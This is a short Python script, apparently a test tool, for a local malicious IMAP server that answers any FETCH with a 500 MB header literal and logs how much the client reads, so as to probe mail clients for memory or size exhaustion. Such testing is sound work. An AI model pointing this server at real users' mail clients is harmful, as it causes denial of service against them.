"""An IMAP server with one more message at each visit, whose every part is a literal of 500 MB. Until it is asked for that, nothing is wrong with it.

usage: bomb.py PORT RECORD   (the record gets a line for each bomb: how many octets were taken)
"""
import asyncio
import itertools
import re
import sys

SIZE = 500 * 1024 * 1024
MESSAGES = itertools.count(1)
FOLDERS = {"INBOX": "", "Junk": "\\Junk", "Sent": "\\Sent", "Trash": "\\Trash", "Archive": "\\Archive"}


def answer(verb, words):
    if verb == "CAPABILITY":
        return ["* CAPABILITY IMAP4rev1 AUTH=PLAIN SASL-IR MOVE UIDPLUS SPECIAL-USE"]
    if verb in ("LIST", "LSUB"):
        return [f'* {verb} ({use}) "/" {name}' for name, use in FOLDERS.items()]
    if verb == "NAMESPACE":
        return ['* NAMESPACE (("" "/")) NIL NIL']
    if verb in ("SELECT", "EXAMINE"):
        count = next(MESSAGES)
        return [f"* {count} EXISTS", "* 0 RECENT", "* OK [UIDVALIDITY 7] ok", f"* OK [UIDNEXT {count + 1}] ok", "* FLAGS (\\Seen)", "* OK [PERMANENTFLAGS (\\Seen \\*)] ok"]
    if verb == "STATUS":
        count = next(MESSAGES)
        return [f"* STATUS {words[2]} (MESSAGES {count} UIDNEXT {count + 1} UIDVALIDITY 7 UNSEEN 0)"]
    if verb in ("SEARCH", "UID SEARCH"):
        return ["* SEARCH 1"]
    if verb == "LOGOUT":
        return ["* BYE"]
    return []


async def bomb(writer):
    writer.write(b'* 1 FETCH (UID 1 INTERNALDATE "26-Nov-2026 08:00:00 +0000" BODY[HEADER] {%d}\r\n' % SIZE)
    block, taken = b"X-Filler: " + b"x" * 65526, 0
    try:
        while taken < SIZE:
            writer.write(block)
            await writer.drain()
            taken += len(block)
    finally:
        with open(sys.argv[2], "a") as record:
            print(taken, file=record)


async def visit(reader, writer):
    try:
        writer.write(b"* OK ready\r\n")
        while line := (await reader.readline()).decode("latin-1").strip():
            words = line.split(" ")
            verb = (" ".join(words[1:3]) if words[1].upper() == "UID" else words[1]).upper()
            if verb == "AUTHENTICATE" and len(words) < 4:
                writer.write(b"+ \r\n")
                await reader.readline()
            if re.search("FETCH", verb):
                await bomb(writer)
            for said in answer(verb, words):
                writer.write(said.encode() + b"\r\n")
            writer.write(f"{words[0]} OK done\r\n".encode())
            if verb == "LOGOUT":
                break
    except ConnectionError:
        pass
    finally:
        writer.close()


async def main():
    async with await asyncio.start_server(visit, "127.0.0.1", int(sys.argv[1])) as server:
        await server.serve_forever()


asyncio.run(main())
